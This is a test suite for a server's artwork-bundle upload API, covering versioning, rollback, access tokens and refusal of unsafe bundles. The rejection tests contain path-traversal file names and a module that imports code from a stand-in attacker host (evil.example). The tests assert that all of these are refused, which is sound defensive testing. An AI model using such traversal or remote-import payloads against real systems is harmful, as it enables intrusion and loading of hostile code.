import fs from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Socket } from 'socket.io-client';
import { ADMIN, ARTIST, api, ask, client, connected, startServer } from '../support/server';
import { asPiece, packFixture, readBundle, rebundle, upload, uploadLive } from '../support/pieces';
import type { Ack, DisplayView, PieceBundle } from '../../protocol';

let app: Awaited<ReturnType<typeof startServer>>;
let bundle: PieceBundle;
let raw: Buffer;

beforeAll(async () => {
  const file = await packFixture('fixture-glow');
  raw = fs.readFileSync(file);
  bundle = readBundle(file);
  app = await startServer({ pieceLimits: { maxBundleBytes: 1024 * 1024, maxFileBytes: 512 * 1024 } });
}, 120_000);
afterAll(async () => {
  await app?.close();
});

describe('live add: POST /api/pieces', () => {
  it('packs into one versioned bundle holding module.js, the manifest and the assets', () => {
    const paths = bundle.files.map((f) => f.path);
    expect(bundle.id).toBe('fixture-glow');
    expect(bundle.version).toBe('1.0.0');
    expect(paths).toContain('module.js');
    expect(paths).toContain('manifest.json');
    expect(paths.some((p) => /^assets\/dot-[\w-]+\.png$/.test(p))).toBe(true);
    const code = Buffer.from(bundle.files.find((f) => f.path === 'module.js')!.data, 'base64').toString();
    expect(code).toContain('/runtime/three.js');
    expect(code).toContain('/runtime/sdk.js');
    expect(code).not.toMatch(/from\s*["']three["']/);
  });

  it('accepts an artist upload and lists it at once, served from the data directory', async () => {
    const res = await upload(app, raw, ARTIST);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ ok: true, id: 'fixture-glow', version: '1.0.0', moduleUrl: '/pieces/fixture-glow/1.0.0/module.js', previous: null });

    const list = await api(app, 'GET', '/api/installations', undefined, null);
    const entry = (list.body as unknown as Array<Record<string, unknown>>).find((p) => p.id === 'fixture-glow');
    expect(entry).toMatchObject({ source: 'uploaded', version: '1.0.0', moduleUrl: '/pieces/fixture-glow/1.0.0/module.js' });

    const mod = await fetch(`${app.url}/pieces/fixture-glow/1.0.0/module.js`);
    expect(mod.status).toBe(200);
    expect(mod.headers.get('content-type')).toMatch(/text\/javascript/);
    expect(mod.headers.get('content-security-policy')).toContain('sandbox');
    const asset = bundle.files.find((f) => f.path.endsWith('.png'))!;
    const png = await fetch(`${app.url}/pieces/fixture-glow/1.0.0/${asset.path}`);
    expect(png.status).toBe(200);
    expect(Buffer.from(await png.arrayBuffer()).equals(Buffer.from(asset.data, 'base64'))).toBe(true);
    expect((await fetch(`${app.url}/pieces/fixture-glow/1.0.0/..%2F..%2Fpiece.json`)).status).toBe(404);
    expect((await fetch(`${app.url}/pieces/fixture-glow/9.9.9/module.js`)).status).toBe(404);
  });

  it('refuses the same version again, accepts a new one, and keeps both', async () => {
    const again = await upload(app, raw, ARTIST);
    expect(again.status).toBe(409);
    expect(again.body.error?.message).toMatch(/version 1\.0\.0 of 'fixture-glow' is already installed; raise "version"/);

    const next = await upload(app, rebundle(bundle, { version: '1.1.0' }), ARTIST);
    expect(next.status, JSON.stringify(next.body)).toBe(201);
    expect(next.body).toMatchObject({ version: '1.1.0', previous: '1.0.0' });
    const versions = await api(app, 'GET', '/api/pieces/fixture-glow/versions', undefined, ARTIST);
    expect(versions.status).toBe(200);
    // The owner is the artist the token names (PAVILION_ARTIST_TOKEN's: `artist`), not the manifest's credit.
    expect(versions.body).toMatchObject({ id: 'fixture-glow', owner: 'artist', active: '1.1.0' });
    expect((versions.body.versions as Array<{ version: string }>).map((v) => v.version).sort()).toEqual(['1.0.0', '1.1.0']);
    expect(app.catalog.get('fixture-glow')?.version).toBe('1.1.0');
  });

  it('lets the technician, and only the technician, roll back', async () => {
    const byArtist = await api(app, 'POST', '/api/pieces/fixture-glow/rollback', { version: '1.0.0' }, ARTIST);
    expect(byArtist.status).toBe(403);
    const missing = await api(app, 'POST', '/api/pieces/fixture-glow/rollback', { version: '0.0.1' }, ADMIN);
    expect(missing.status).toBe(404);
    expect(missing.body.error?.message).toMatch(/kept versions: /);
    const res = await api(app, 'POST', '/api/pieces/fixture-glow/rollback', { version: '1.0.0' }, ADMIN);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ ok: true, active: '1.0.0', previous: '1.1.0' });
    expect(app.catalog.get('fixture-glow')).toMatchObject({ version: '1.0.0', moduleUrl: '/pieces/fixture-glow/1.0.0/module.js' });
  });

  it("the manifest's artist string is a credit, not the owner: changing it changes nothing", async () => {
    const other = rebundle(bundle, { version: '2.0.0', manifest: (m) => ({ ...m, artist: '  Someone ELSE ' }) });
    const res = await upload(app, other, ARTIST);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ owner: 'artist' });
    expect((await api(app, 'GET', '/api/pieces/fixture-glow/versions', undefined, ADMIN)).body).toMatchObject({ owner: 'artist', active: '2.0.0' });
  });

  it('refuses to replace a bundled piece', async () => {
    const bundled = app.catalog.list().find((p) => p.source === 'bundled');
    if (!bundled) return; // no bundled pieces in this checkout
    const res = await upload(app, rebundle({ ...bundle, id: bundled.id }, { manifest: (m) => ({ ...m, id: bundled.id }) }), ADMIN);
    expect(res.status).toBe(409);
    expect(res.body.error?.message).toMatch(/built into Pavilion/);
  });

  it('survives a restart: uploaded pieces come back with their active version', async () => {
    const dataDir = app.dataDir;
    await app.close();
    app = await startServer({ dataDir, pieceLimits: { maxBundleBytes: 1024 * 1024, maxFileBytes: 512 * 1024 } });
    expect(app.catalog.get('fixture-glow')).toMatchObject({ source: 'uploaded', version: '2.0.0' });
    const versions = await api(app, 'GET', '/api/pieces/fixture-glow/versions', undefined, ADMIN);
    expect((versions.body.versions as unknown[]).length).toBe(3);
  });
});

describe('refused uploads, each with a reason', () => {
  const fresh = (change: Parameters<typeof rebundle>[1]) => ({ ...rebundle(bundle, change), id: 'fixture-other' });
  const asOther = (m: Record<string, unknown>) => ({ ...m, id: 'fixture-other' });

  it('no token: 401 naming the artist token', async () => {
    const res = await upload(app, raw, null);
    expect(res.status).toBe(401);
    expect(res.body.error?.message).toMatch(/artist token/);
    expect((await upload(app, raw, 'not-a-token')).status).toBe(401);
  });

  it('an artist token cannot run the show: /api/commands answers 403', async () => {
    const res = await api(app, 'POST', '/api/commands', { type: 'show.blackout', on: true }, ARTIST);
    expect(res.status).toBe(403);
    expect(app.store.get().blackout).toBe(false);
  });

  it('a bad manifest: 400 naming the field', async () => {
    const res = await upload(app, fresh({ manifest: (m) => ({ ...asOther(m), title: '' }) }));
    expect(res.status).toBe(400);
    expect(res.body.error?.message).toMatch(/manifest\.json is not valid: title/);
  });

  it('a manifest whose id differs from the bundle: 400', async () => {
    const res = await upload(app, fresh({ manifest: (m) => ({ ...m, id: 'something-else' }) }));
    expect(res.status).toBe(400);
    expect(res.body.error?.message).toMatch(/manifest\.json says id 'something-else'/);
  });

  for (const evil of ['../../evil.js', 'assets/../../evil.js', '/etc/evil.js', 'assets\\evil.js', 'C:/evil.js', '.hidden.js', 'assets/evil.html', 'assets/x.svg']) {
    it(`an unsafe path (${evil}): 400`, async () => {
      const res = await upload(app, fresh({ manifest: asOther, files: { [evil]: 'export {}' } }));
      expect(res.status).toBe(400);
      expect(res.body.error?.message).toContain(`file path '${evil}' is refused`);
      expect(fs.existsSync(`${app.dataDir}/pieces/fixture-other`)).toBe(false);
    });
  }

  it('an oversize bundle: 413 with the limit', async () => {
    const big = fresh({ manifest: asOther, files: { 'assets/big.bin': Buffer.alloc(1100 * 1024, 7) } });
    const res = await upload(app, big);
    expect(res.status).toBe(413);
    expect(res.body.error?.message).toMatch(/MB.*limit|limit.*MB/);
  });

  it('an oversize file inside the limit of the bundle: 413 naming the file', async () => {
    const res = await upload(app, fresh({ manifest: asOther, files: { 'assets/big.bin': Buffer.alloc(600 * 1024, 7) } }));
    expect(res.status).toBe(413);
    expect(res.body.error?.message).toMatch(/file 'assets\/big\.bin' is/);
  });

  it('junk: 400 saying it is not a bundle', async () => {
    const res = await upload(app, Buffer.from([0x50, 0x4b, 3, 4, 1, 2, 3]));
    expect(res.status).toBe(400);
    expect(res.body.error?.message).toMatch(/not a Pavilion bundle/);
    const json = await upload(app, '{"hello":"world"}');
    expect(json.status).toBe(400);
    expect(json.body.error?.message).toMatch(/bundle is not valid: format/);
  });

  it('the wrong content type: 415 with the right one', async () => {
    const res = await upload(app, raw, ARTIST, 'text/plain');
    expect(res.status).toBe(415);
    expect(res.body.error?.message).toMatch(/application\/octet-stream/);
  });

  it('a damaged file: 400 about its checksum', async () => {
    const b = fresh({ manifest: asOther });
    const f = b.files.find((x) => x.path === 'module.js')!;
    f.data = Buffer.from('export default 1;').toString('base64');
    const res = await upload(app, b);
    expect(res.status).toBe(400);
    expect(res.body.error?.message).toMatch(/checksum/);
  });

  it('a module that imports from the network or an unknown package: 400', async () => {
    for (const src of ['import x from "https://cdn.example.com/x.js"; export default x;', 'import x from "lodash"; export default x;', 'import x from "./missing.js"; export default x;']) {
      const res = await upload(app, fresh({ manifest: asOther, files: { 'module.js': src } }));
      expect(res.status, src).toBe(400);
      expect(res.body.error?.message).toMatch(/imports '/);
    }
  });

  it('a computed import(someVar) or a literal import() from the network: 400; a literal import() of its own file is fine', async () => {
    const computed = await upload(app, fresh({ manifest: asOther, files: { 'module.js': 'const someVar = location.hash.slice(1); export default () => import(someVar);' } }));
    expect(computed.status).toBe(400);
    expect(computed.body.error?.message).toMatch(/module\.js \(line 1\) has a dynamic import whose specifier is computed at run time: import\(someVar\)\. A piece may import only with literal specifiers/);
    const evil = await upload(app, fresh({ manifest: asOther, files: { 'module.js': "export default () => import('https://evil.example/x.js');" } }));
    expect(evil.status).toBe(400);
    expect(evil.body.error?.message).toMatch(/module\.js imports 'https:\/\/evil\.example\/x\.js' with import\(\): a piece may import only/);
    const own = fresh({ manifest: (m) => ({ ...m, id: 'fixture-own-import' }), files: { 'module.js': "export default () => import('./chunks/late.js');", 'chunks/late.js': 'export default 1;' } });
    const fine = await upload(app, { ...own, id: 'fixture-own-import' });
    expect(fine.status, JSON.stringify(fine.body)).toBe(201);
  });

  it('a module without a default export: 400', async () => {
    const res = await upload(app, fresh({ manifest: asOther, files: { 'module.js': 'export const x = 1;' } }));
    expect(res.status).toBe(400);
    expect(res.body.error?.message).toMatch(/no default export/);
  });

  it('nothing refused was stored or announced', () => {
    expect(app.catalog.get('fixture-other')).toBeUndefined();
    expect(fs.existsSync(`${app.dataDir}/pieces/fixture-other`)).toBe(false);
  });
});

describe('a new version waits for the next wall.play; piece.rollback is a command', () => {
  const ID = 'fixture-versions';
  let screen: Socket;
  const views: DisplayView[] = [];
  const moduleOf = (v: DisplayView | undefined) => v?.wall?.manifest?.moduleUrl;
  const url = (version: string) => `/pieces/${ID}/${version}/module.js`;
  const command = async (c: Record<string, unknown>) => {
    const res = await api(app, 'POST', '/api/commands', c, ADMIN);
    expect(res.status, JSON.stringify(res.body)).toBe(200);
  };
  /** What the screen holds now: a fresh hello's view, after every push sent before it (one socket keeps the order). */
  const onScreen = async () => {
    const hello = await ask<Ack<{ view: DisplayView }>>(screen, 'display:hello', { screenId: 'canopy-1', key: app.store.get().screens['canopy-1']?.key });
    if (!hello.ok) throw new Error(hello.error.message);
    return hello.view;
  };

  beforeAll(async () => {
    expect((await upload(app, asPiece(bundle, ID, '1.0.0'), ARTIST)).status).toBe(201);
    screen = client(app, '/display');
    screen.on('display:view', (v: DisplayView) => views.push(v));
    await connected(screen);
    await command({ type: 'wall.play', wallId: 'canopy', installationId: ID });
    expect(moduleOf(await onScreen())).toBe(url('1.0.0'));
  });
  afterAll(() => {
    screen?.close();
  });

  it("an artist's new version (even with ?live=1) does not change what a playing wall's screens load", async () => {
    const before = app.store.get().walls.canopy!;
    views.length = 0;
    const res = await uploadLive(app, asPiece(bundle, ID, '1.1.0'), ARTIST);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ live: false, previous: '1.0.0' });
    expect(String(res.body.warnings)).toMatch(/live=1 was ignored: only a technician/);
    const now = await onScreen();
    expect(moduleOf(now)).toBe(url('1.0.0'));
    expect(now.wall).toMatchObject({ version: '1.0.0', startedAt: before.startedAt });
    expect(views.map(moduleOf).filter((m) => m !== url('1.0.0'))).toEqual([]);
    // It is the one the next wall.play starts, and what the catalog (and /preview) offers.
    expect(app.catalog.get(ID)).toMatchObject({ version: '1.1.0', moduleUrl: url('1.1.0') });
    expect(app.store.get().pieces?.[ID]).toEqual({ owner: 'artist', version: '1.1.0' });
  });

  it('the next wall.play plays it', async () => {
    await command({ type: 'wall.play', wallId: 'canopy', installationId: ID });
    expect(app.store.get().walls.canopy?.version).toBe('1.1.0');
    expect(moduleOf(await onScreen())).toBe(url('1.1.0'));
  });

  it('piece.rollback through the command path switches the walls playing it, and is recorded in the show', async () => {
    const version = app.store.get().version;
    const startedAt = app.store.get().walls.canopy!.startedAt;
    await command({ type: 'piece.rollback', pieceId: ID, version: '1.0.0' });
    const show = app.store.get();
    expect(show.version).toBe(version + 1);
    expect(show.pieces?.[ID]?.version).toBe('1.0.0');
    expect(show.walls.canopy).toMatchObject({ installationId: ID, version: '1.0.0' });
    expect(show.walls.canopy!.startedAt).not.toBe(startedAt); // a scheduled switch, like a wall.play
    expect(moduleOf(await onScreen())).toBe(url('1.0.0'));
    expect(app.catalog.get(ID)?.version).toBe('1.0.0');
  });

  it('piece.rollback with live: false changes only what the next wall.play starts', async () => {
    await command({ type: 'piece.rollback', pieceId: ID, version: '1.1.0', live: false });
    expect(app.store.get().pieces?.[ID]?.version).toBe('1.1.0');
    expect(moduleOf(await onScreen())).toBe(url('1.0.0'));
  });

  it('piece.rollback runs in a cue', async () => {
    await command({ type: 'cue.save', cueId: 'back-to-one', name: 'Back to 1.0.0', commands: [{ type: 'piece.rollback', pieceId: ID, version: '1.0.0' }, { type: 'show.volume', volume: 0.5 }] });
    await command({ type: 'piece.rollback', pieceId: ID, version: '1.1.0' });
    expect(moduleOf(await onScreen())).toBe(url('1.1.0'));
    await command({ type: 'cue.go', cueId: 'back-to-one' });
    expect(app.store.get().pieces?.[ID]?.version).toBe('1.0.0');
    expect(moduleOf(await onScreen())).toBe(url('1.0.0'));
  });

  it('piece.rollback refuses a version that is not kept, and a bundled piece, saying why', async () => {
    const missing = await api(app, 'POST', '/api/commands', { type: 'piece.rollback', pieceId: ID, version: '9.9.9' }, ADMIN);
    expect(missing.status).toBe(404);
    expect(missing.body.error?.message).toMatch(/no version 9\.9\.9; kept versions: .*1\.0\.0/);
    const bundled = app.catalog.list().find((p) => p.source === 'bundled');
    if (bundled) {
      const res = await api(app, 'POST', '/api/commands', { type: 'piece.rollback', pieceId: bundled.id, version: '1.0.0' }, ADMIN);
      expect(res.status).toBe(400);
      expect(res.body.error?.message).toMatch(/built into Pavilion/);
    }
    const save = await api(app, 'POST', '/api/commands', { type: 'cue.save', cueId: 'bad', name: 'Bad', commands: [{ type: 'piece.rollback', pieceId: ID }] }, ADMIN);
    expect(save.status).toBe(400);
  });

  it("a technician's upload with ?live=1 goes live on the walls playing it", async () => {
    const res = await uploadLive(app, asPiece(bundle, ID, '1.2.0'), ADMIN);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body).toMatchObject({ live: true, previous: '1.0.0', owner: 'artist' });
    expect(moduleOf(await onScreen())).toBe(url('1.2.0'));
  });
});
